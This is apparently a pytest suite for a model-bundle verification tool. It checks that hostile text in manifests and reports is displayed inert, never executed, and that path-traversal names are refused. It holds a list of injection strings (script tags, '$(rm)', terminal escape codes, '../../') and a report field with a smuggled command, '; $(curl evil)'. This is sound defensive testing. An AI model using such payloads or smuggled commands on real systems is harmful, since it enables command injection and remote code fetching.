"""What somebody else wrote into a bundle or a run is shown as it is, and acts on nothing that shows it."""

import io
import json
import re
import shutil
from contextlib import redirect_stdout
from dataclasses import replace
from itertools import cycle

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from junitparser import JUnitXml
from markdown_it import MarkdownIt

from runtime.bundle.manifest import Calibrated, Graph, Packed, Provenance, Reference
from runtime.compare.comparison import compare
from runtime.compare.formats import FORMATS as COMPARISONS
from runtime.records.report import Report, load_report
from runtime.report.account import Account
from runtime.report.console import print_summary
from runtime.report.formats import FORMATS
from runtime.spec import DataRecord
from runtime.terminal.log import log
from runtime.verdict.paired import read_finished
from runtime.words import printable
from tests.command_line import edgeproof
from tests.runtime.bundle.bundles import write_bundle
from tests.runtime.report.pages import Tags
from tests.tiny import bundle_files, linear_task

SIGNS = ("../../esc", "[/x]", "[bold red]", "<script>alert(1)</script>", "<img src=x>", "`rm`", "$(rm)", "';--")
SIGNS += ("\x1b[31m", "\x1b]0;title\x07", "\x9b2J", "|", "a\nb", "\r", "\u202etxt", "\u2028", "{{ 7 * 7 }}", "&amp;")
SIGNS += ("%s", "#1", "*a*", "$x^2$", ":smile:", "]]>", "\ufffe")
HOSTILE = " ".join(SIGNS)
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e]")
"""What no file that people open, and no terminal, gets."""


def assert_harmless(text):
    assert not ACTS.search(text)


def assert_page(html):
    assert_harmless(html)
    assert "<script" not in html
    assert "<img src=x" not in html
    assert "{{" in html  # shown, and not evaluated
    assert Tags(html).faults == []


def assert_markdown(text, columns):
    assert_harmless(text)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert not re.search(r"<(script|img|h1)", html)
    rows = re.findall(r"<tr>.*?</tr>", html, re.DOTALL)
    assert {len(re.findall(r"<t[hd]", row)) for row in rows} <= columns


def assert_junit(text):
    assert_harmless(text)
    (suite,) = JUnitXml.fromstring(text.encode())
    assert len(list(suite)) == suite.tests


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A bundle whose every text is hostile, in a directory of its own, and two runs of it."""
    place = tmp_path_factory.mktemp("outer") / "inner" / "work"
    place.mkdir(parents=True)
    data = DataRecord(name=HOSTILE, n=60, sha256="0" * 64)
    calibration = Calibrated(data=data, method=HOSTILE, kept_fp16=(HOSTILE,))
    graph = Graph(
        forward="model.fp32.onnx",
        gradient="model.fp32.grad.onnx",
        opset=18,
        calibration=calibration,
        staircases=(HOSTILE,),
    )
    files = bundle_files(linear_task())
    write_bundle(
        place / "bundle", files, n=60, graphs={"fp32": graph}, created=HOSTILE,
        classes=tuple(f"{HOSTILE}{number}" for number in range(3)),
        packed=Packed(file=HOSTILE, sha256="0" * 64, opset=18, changes=(HOSTILE,)),
        reference=Reference(checkpoint=HOSTILE, n=60, clean=0.5, pgd=0.5),
        provenance=Provenance(
            recipe={HOSTILE: [HOSTILE]}, recipe_sha256="0" * 64, checkpoint_sha256="0" * 64, teacher_sha256=None,
            training_data=data, software={HOSTILE: HOSTILE},
        ),
    )  # fmt: skip
    record = json.loads((place / "bundle" / "manifest.json").read_text())
    raw = json.dumps(record).replace(json.dumps(printable(HOSTILE))[1:-1], json.dumps(HOSTILE)[1:-1])
    (place / "bundle" / "manifest.json").write_text(raw)  # as one who does not use our records
    assert "\\u001b[31m" in raw
    for name in ("run", "other"):
        result = edgeproof("verify", place / "bundle", "--fail-under", "1%", "--out", place / name)
        assert result.exit_code == 0, result.stderr
        assert_harmless(result.stdout + result.stderr)
    return place


def rewrite(path, change):
    """Change the text of a file that somebody else could have written."""
    record = json.loads(path.read_text())
    change(record)
    path.write_text(json.dumps(record))


def everything(place):
    return {path for path in place.parents[1].rglob("*") if place not in path.parents}


def test_no_command_is_moved_by_the_texts_of_a_bundle(place, tmp_path, monkeypatch):
    before = everything(place)
    monkeypatch.chdir(place)
    commands = (
        ("inspect", "bundle"),
        ("verify", "bundle", "--attacks", "fgsm", "--json"),
        ("bench", "bundle", "--batch", 1, "--seconds", 0.1, "--idle", 0, "--out", "run"),
        ("report", "run", "other"),
        ("compare", "run", "other"),
        ("compare", "run", "other", "--format", "csv"),
        ("install", "bundle", "--to", "device"),
    )
    for command in commands:
        result = edgeproof(*command)
        assert result.exit_code == 0, (command, result.stderr)
        assert_harmless(result.stdout + result.stderr)
    assert everything(place) == before
    assert {path.name for path in place.iterdir()} == {"bundle", "run", "other", "reports", "device"}
    assert all(path.name.startswith("tiny-fp32-") for path in (place / "reports").iterdir())
    assert_page((place / "run" / "report.html").read_text())
    assert_markdown((place / "run" / "summary.md").read_text(), {3, 4})
    assert_junit((place / "run" / "junit.xml").read_text())


@pytest.mark.parametrize("field", ["name", "precision", "backend"])
def test_a_part_of_a_run_with_a_name_that_climbs_is_refused_before_a_directory_is_made(place, tmp_path, field):
    edgeproof("verify", place / "bundle", "--attacks", "fgsm", "--shard", "1/1", "--out", tmp_path / "shard")
    rewrite(
        tmp_path / "shard" / "shard.json", lambda record: record["circumstances"]["artifact"].update({field: "../../e"})
    )
    result = edgeproof("merge", tmp_path / "shard", "--out", tmp_path / "merged")
    assert (result.exit_code, "is damaged" in result.stderr) == (3, True)
    assert {path.name for path in tmp_path.iterdir()} == {"shard"}


def test_a_report_whose_command_runs_another_is_refused(place, tmp_path):
    shutil.copytree(place / "run", tmp_path / "run")
    path = tmp_path / "run" / "report.json"
    rewrite(path, lambda record: record["request"].update(command="edgeproof verify BUNDLE; $(curl evil)"))
    for command in (("report", tmp_path / "run"), ("compare", tmp_path / "run", place / "other")):
        result = edgeproof(*command)
        assert (result.exit_code, "request.command" in result.stderr) == (3, True)


def test_an_error_that_quotes_a_file_moves_no_cursor(place, tmp_path):
    shutil.copytree(place / "bundle", tmp_path / "bundle")
    rewrite(tmp_path / "bundle" / "manifest.json", lambda record: record.update({"\x1b[2J": 1}))
    result = edgeproof("inspect", tmp_path / "bundle")
    assert result.exit_code == 3
    assert "?[2J" in result.stderr
    assert_harmless(result.stderr)


def test_a_line_of_the_log_moves_no_cursor(capsys):
    log.info("one \x1b[2J\ntwo")
    assert capsys.readouterr().err == "one ?[2J\ntwo\n"


text = st.one_of(st.text(max_size=30), st.lists(st.sampled_from(SIGNS), max_size=4).map(" ".join))
texts = st.lists(text, min_size=8, max_size=8, unique=True)


def written_by_another(report, drawn):
    """Return a report in which every text that people read is one of those drawn."""
    left = cycle(drawn)
    record = report.model_dump(by_alias=True)
    record["data"]["name"] = record["request"]["data"]["name"] = next(left)
    record["reasons"] = [next(left)]
    for row in record["per_class"]:
        row["name"] = next(left)
    for check in record["checks"]:
        check |= {"message": next(left), "hint": next(left), "state": "found"}
    record["warnings"] = [{"check": next(left), "blocking": False, "message": next(left), "hint": next(left)}]
    record["device"] = {next(left): next(left), "cpu": next(left), "accelerator": next(left)}
    record["software"] = {next(left): next(left)}
    record["started"] = next(left)
    record["paired"] = {
        "against": next(left), "both": 1, "only_this": 0, "only_that": 0, "neither": 0, "difference": 0.0,
        "ci95": (0, 0), "mcnemar_p": None,
    }  # fmt: skip
    return Report.model_validate(record)


@settings(max_examples=30, phases=(Phase.explicit, Phase.reuse, Phase.generate))
@given(drawn=texts)
def test_whatever_a_report_says_its_summaries_are_whole(place, drawn):
    report = written_by_another(load_report(place / "run"), drawn)
    account = Account(report)
    assert_markdown(FORMATS["markdown"].render(account), {3, 4})
    assert_junit(FORMATS["junit"].render(account))
    with redirect_stdout(io.StringIO()) as said:
        print_summary(report, place / "run")
    assert_harmless(said.getvalue())


@settings(max_examples=30, phases=(Phase.explicit, Phase.reuse, Phase.generate))
@given(drawn=texts)
def test_whatever_two_reports_say_they_are_compared(place, drawn):
    runs = [read_finished(place / name) for name in ("run", "other")]
    comparison = compare([replace(run, report=written_by_another(run.report, drawn)) for run in runs])
    for name, form in COMPARISONS.items():
        said = form(comparison)
        assert_harmless(said)
        if name == "markdown":
            assert_markdown(said, {3})
        if name == "json":
            assert len(json.loads(said)["runs"]) == 2


@settings(max_examples=8, phases=(Phase.explicit, Phase.reuse, Phase.generate))
@given(drawn=texts)
def test_whatever_a_report_says_its_page_is_whole(place, drawn):
    report = written_by_another(load_report(place / "run"), drawn)
    html = FORMATS["html"].render(Account(report))
    assert_harmless(html)
    assert not re.search(r"<(script|img src=x)", html)
    assert Tags(html).faults == []
    assert html.count("<h1") == 1
